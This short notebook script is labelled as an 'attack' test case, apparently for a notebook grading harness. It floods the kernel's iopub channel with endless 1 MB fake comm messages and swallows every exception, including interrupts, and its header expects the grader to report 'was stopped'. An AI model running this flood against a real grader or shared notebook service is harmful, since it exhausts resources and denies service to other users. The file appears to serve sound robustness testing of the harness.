# /// attack
# title = "Floods the grader with messages that no kernel sends"
# says = ["was stopped"]
# ///

# %%
kernel = get_ipython().kernel
print("TRIED comm messages without end")
while True:
    try:
        kernel.session.send(kernel.iopub_socket, "comm_msg", {"comm_id": "x", "data": "y" * 1_000_000}, kernel.get_parent("shell"))
    except BaseException:
        pass
